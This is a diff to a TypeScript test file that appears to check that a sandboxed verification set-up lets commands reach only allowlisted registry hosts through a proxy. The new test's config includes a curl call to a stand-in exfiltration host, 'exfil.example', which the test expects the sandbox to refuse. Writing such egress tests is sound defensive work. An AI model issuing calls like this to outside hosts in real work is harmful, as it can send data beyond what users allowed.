@@ -194,20 +194,17 @@ describe('set-up on a repository whose tests need an install', () => {
     expect(check?.outputTail).toBe(`from-venv\n${join(repo, '.venv')}\n`);
   }, 60_000);
 
-  it('with the registry hosts of `auto`, is refused until the network allowlist is enforced, saying what to set', async () => {
+  it('reaches only its registry hosts, through the proxy: a refused host is named in its output', async () => {
     const repo = await depsRepo();
-    const setup = await runSetup(setupContext(repo, 'spec: docs/SPEC.md\n'), 'verification');
-    expect(setup.ok).toBe(false);
-    if (!setup.ok) {
-      expect(setup.message).toMatch(
-        /^verification set-up refused to run: these commands need the network \(registry\.npmjs\.org\), and a network allowlist is not enforced yet/,
-      );
-      expect(setup.message).toContain('`sandbox.network.setup: []`');
-    }
-    expect(setup.setup).toMatchObject({
-      source: 'auto: package-lock.json',
-      commands: [],
-      network: ['registry.npmjs.org'],
-    });
+    const config =
+      'verification:\n  setup:\n    - npm ci --no-audit --no-fund\n' +
+      '    - curl -sS --max-time 5 https://exfil.example/ || echo curl-refused\n' +
+      'sandbox:\n  network:\n    setup: [registry.npmjs.org]\n';
+    const setup = await runSetup(setupContext(repo, config), 'verification');
+    expect(setup.ok).toBe(true);
+    expect(setup.setup.network).toEqual(['registry.npmjs.org']);
+    const curl = setup.setup.commands[1];
+    expect(curl?.outputTail).toContain('curl-refused');
+    expect(curl?.outputTail).toContain('[ipo sandbox: refused a connection to exfil.example:443: not in');
   });
 });
